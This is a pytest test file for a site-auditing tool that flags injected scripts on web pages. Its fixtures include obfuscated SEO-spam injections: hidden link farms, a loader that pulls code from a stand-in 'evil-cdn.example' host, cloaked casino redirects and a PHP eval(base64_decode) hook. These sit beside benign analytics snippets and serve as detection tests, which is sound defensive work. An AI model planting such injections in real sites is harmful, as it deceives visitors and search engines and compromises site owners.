"""Injected scripts are found and told apart from those of honest sites."""

from __future__ import annotations

import pytest
from harbour import alarming, article, findings_on

FARM = (
    '<a href="http://cheap-pills.example/viagra">buy viagra online</a> '
    '<a href="http://rx-store.example/cialis">cheap cialis no prescription</a> '
    '<a href="http://slot-gacor.example/">slot gacor maxwin</a> '
)


def codes(text: str) -> str:
    return ",".join(str(ord(c)) for c in text)


def hexed(text: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in text)


def percent(text: str) -> str:
    return "".join(f"%{ord(c):02x}" for c in text)


def script(text: str) -> str:
    return f"<script>{text}</script>"


INJECTED = {
    "written links": ("script", "error", script(f"document.write('{FARM}')")),
    "coded links": ("script", "error", script(f"document.write(String.fromCharCode({codes(FARM)}))")),
    "escaped links": ("script", "error", script(f"document['{hexed('write')}']('{hexed(FARM)}')")),
    "code in code": ("script", "error", script(f"eval(unescape('{percent(f'document.write(unescape({chr(34)}{percent(FARM)}{chr(34)}))')}'))")),
    "a coded hidden link": ("script", "error", script(
        "document.write(unescape('" + percent('<div style="position:absolute;left:-9999px"><a href="http://x.example/">see more</a></div>') + "'))")),
    "a coded script": ("script", "warning", script(
        f"var s=document.createElement('script');s.src=String.fromCharCode({codes('https://evil-cdn.example/a.js')});document.head.appendChild(s)")),
    "a coded script for some": ("script", "error", script(
        "if(document.referrer){var s=document.createElement('script');s.src="
        f"String.fromCharCode({codes('https://evil-cdn.example/a.js')});document.head.appendChild(s)}}")),
    "a wrapper in pieces": ("link_farm", "error", script(
        "document.write('<d'+'iv st'+'yle'+'=\"po'+'si'+'tio'+'n:a'+'bso'+'lu'+'te;l'+'ef'+'t:'+'-'+'10'+'00'+'0'+'p'+'x;'+'\"'+'>');") + FARM + "</div>"),
    "by search engine": ("redirect", "error", script(
        "if(/google|bing/.test(document.referrer)){location.href='https://casino.example/'}")),
    "but no robots": ("redirect", "error", script(
        "if(!/bot|crawl/i.test(navigator.userAgent)){window.location='https://casino.example/'}")),
    "telephones, coded": ("redirect", "error", script(
        "if(/android/i.test(navigator.userAgent))location.replace(atob('aHR0cHM6Ly9jYXNpbm8uZXhhbXBsZS8='))")),
    "telephones": ("redirect", "warning", script(
        "if(/android/i.test(navigator.userAgent))location.replace('https://casino.example/')")),
    "refresh": ("redirect", "error", '<meta http-equiv="refresh" content="0; url=https://casino.example/">'),
    "code of the server": ("server_code", "error",
        "<?php if(preg_match('/googlebot/i',$_SERVER['HTTP_USER_AGENT'])){eval(base64_decode('ZWNobyAxOw=='));} ?>"),
}  # fmt: skip


@pytest.mark.parametrize("name", INJECTED)
def test_injected_scripts_are_found(name: str) -> None:
    kind, severity, markup = INJECTED[name]
    found = findings_on(article(markup))
    assert (kind, severity) in [(f.kind, f.severity) for f in found]
    (one, *_) = (f for f in found if (f.kind, f.severity) == (kind, severity))
    assert one.line is not None
    assert one.advice
    assert one.reasons
    assert len(alarming(found)) <= (3 if kind == "link_farm" else 1)


INNOCENT = {
    "analytics": script(
        "window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}gtag('js',new Date());gtag('config','G-1');"),
    "analytics of old": script(
        "(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){(i[r].q=i[r].q||[]).push(arguments)},"
        "i[r].l=1*new Date();a=s.createElement(o),m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)"
        "})(window,document,'script','https://www.google-analytics.com/analytics.js','ga');ga('send','pageview');"),
    "tag manager": script(
        "(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],"
        "j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i+dl;"
        "f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-1');"),
    "tag manager without scripts": '<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-1" height="0" width="0" '
        'style="display:none;visibility:hidden"></iframe></noscript>',
    "counter": script("var _gaq=_gaq||[];document.write(unescape(\"%3Cscript src='//stats.harbour-news.example/piwik.js' type='text/javascript'%3E%3C/script%3E\"));"),
    "counter of somebody": script(
        "var gaJsHost=(('https:'==document.location.protocol)?'https://ssl.':'http://www.');document.write(unescape(\"%3Cscript src='\"+gaJsHost+"
        "\"google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E\"));"),
    "advert": script(
        "var d=document,s=d.createElement('script');s.src='https://ads.adnetwork.example/show.js?cb='+Math.random();d.body.appendChild(s);"),
    "advert written": script("document.write('<scr'+'ipt src=\"https://ads.adnetwork.example/show.js?z=12\"></scr'+'ipt>');"),
    "consent": script(
        "(function(){if(document.cookie.indexOf('consent=1')<0){var b=document.createElement('div');b.id='consent';b.innerHTML='<p>We use cookies "
        "to improve this site.</p><button>Accept</button>';document.body.appendChild(b)}})();"),
    "written address": script(f"document.write('<a href=\"'+String.fromCharCode({codes('mailto:desk@harbour-news.example')})+'\">Write to us</a>')"),
    "rotated address": script(
        "document.write('<n uers=\"znvygb:qrfx@uneobhe.rknzcyr\">qrfx</n>'.replace(/[a-zA-Z]/g,function(c){return String.fromCharCode((c<='Z'?90:122)>="
        "(c=c.charCodeAt(0)+13)?c:c-26);}));"),
    "fallback": script("window.jQuery||document.write('<script src=\"/js/jquery-3.7.min.js\"><\\/script>')"),
    "polyfill": script(
        "if(!Array.prototype.includes){Object.defineProperty(Array.prototype,'includes',{value:function(x){return this.indexOf(x)!==-1}})}"
        "if(!('fetch' in window)){document.write('<script src=\"https://cdn.polyfills.example/v3/polyfill.min.js\"><\\/script>')}"),
    "lazy pictures": script(
        "document.querySelectorAll('img[data-src]').forEach(function(i){i.src=i.dataset.src;i.style.opacity='0';i.onload=function(){i.style.opacity=1}})"),
    "no-js class": script("document.documentElement.className=document.documentElement.className.replace('no-js','js')"),
    "menu": script("document.getElementById('menu').style.display='none';function toggle(){var m=document.getElementById('menu');"
                   "m.style.display=m.style.display==='none'?'block':'none'}")
        + '<ul id="menu"><li><a href="/council/">Council</a></li><li><a href="/sport/">Sport</a></li></ul>',
    "secure": script("if(location.protocol!=='https:'){location.replace('https:'+location.href.substring(location.protocol.length))}"),
    "mobile site": script("if(/android|iphone/i.test(navigator.userAgent)){location.href='https://m.harbour-news.example/council/'}"),
    "a share button": script("if(navigator.share===undefined){location.href='https://wordpress.com/post?url='+location.href}"),
    "back to the search": script("if(document.referrer===''){location.href='https://www.google.com'}"),
    "app store": script("if(/iphone/i.test(navigator.userAgent)){window.location='https://apps.apple.com/app/harbour-news/id1'}"),
    "frame breaker": script("if(top!=self){top.location.href=self.location.href}"),
    "country": script("if(navigator.language.indexOf('de')===0){location.href='https://www.harbour-news.de/'}"),
    "click": script("document.getElementById('buy').addEventListener('click',function(){window.location='https://tickets.harbour-festival.example/'})"),
    "chat": script("(function(){var s=document.createElement('script');s.src='https://chat.helpdesk.example/w.js';s.async=true;document.head.appendChild(s)})()"),
    "linked data": '<script type="application/ld+json">{"@type":"NewsArticle","headline":"Breakwater to be rebuilt before the storms"}</script>',
    "template": '<script type="text/template"><a href="http://x.example/"><%= name %></a></script>',
    "moved, and says so": '<meta http-equiv="refresh" content="10; url=https://new-harbour.example/"><p>We have moved to '
        '<a href="https://new-harbour.example/">our new site</a>.</p>',
    "reload": '<meta http-equiv="refresh" content="300">',
    "code shown": "<pre>&lt;?php eval(base64_decode('ZWNobyAxOw==')); ?&gt;</pre>",
    "xml": '<?xml version="1.0" encoding="utf-8"?>',
    "unfinished template": "<?php echo $title; ?><?= $intro ?>",
    "minified": script("!function(e,t){'object'==typeof exports&&'undefined'!=typeof module?module.exports=t():'function'==typeof define&&define.amd?"
        "define(t):(e=e||self).Widget=t()}(this,function(){'use strict';var e='\\x3cdiv\\x3e';return{render:function(n){n.innerHTML=e+n.title+'</div>'}}});"),
}  # fmt: skip


@pytest.mark.parametrize("name", INNOCENT)
def test_scripts_of_honest_sites_alarm_nobody(name: str) -> None:
    assert alarming(findings_on(article(INNOCENT[name]))) == []


def test_scripts_are_no_longer_unchecked() -> None:
    from harbour import audited, page

    report = audited(page(article()))
    assert "scripts" in report.probes
    assert "scripts" not in report.unchecked
    assert "cloaking" in report.unchecked
